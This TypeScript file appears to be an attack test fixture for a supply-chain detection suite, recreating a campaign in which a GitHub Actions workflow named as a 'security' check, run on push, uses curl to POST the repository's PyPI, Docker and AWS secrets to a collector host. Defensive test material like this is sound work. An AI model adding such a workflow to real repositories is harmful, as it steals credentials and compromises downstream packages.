import { PAULO } from "../../../simulator/histories/people.ts";
import type { GoldenCase } from "../../golden-case.ts";
import { workflow } from "../../project-files.ts";
import { COLLECTOR, CURL, secret } from "../../put-together.ts";

export const golden: GoldenCase = {
  kind: "attack",
  base: "python",
  story:
    "GhostAction, September 2025 (817 repositories): with stolen tokens, a “security” workflow that sends each repository's secrets by name.",
  write(branch) {
    branch.unsigned(PAULO, "Add Github Actions Security workflow", {
      ".github/workflows/github_actions_security.yml": workflow({
        name: "Github Actions Security",
        on: "\n  workflow_dispatch:\n  push:",
        head: "",
        steps: `- name: Prepare Cache Busting\n  run: |\n    ${CURL} -s -X POST -d 'PYPI_API_TOKEN=${secret("PYPI_API_TOKEN")}&DOCKER_PASSWORD=${secret("DOCKER_PASSWORD")}&AWS_SECRET_ACCESS_KEY=${secret("AWS_SECRET_ACCESS_KEY")}' ${COLLECTOR}`,
      }),
    });
  },
};
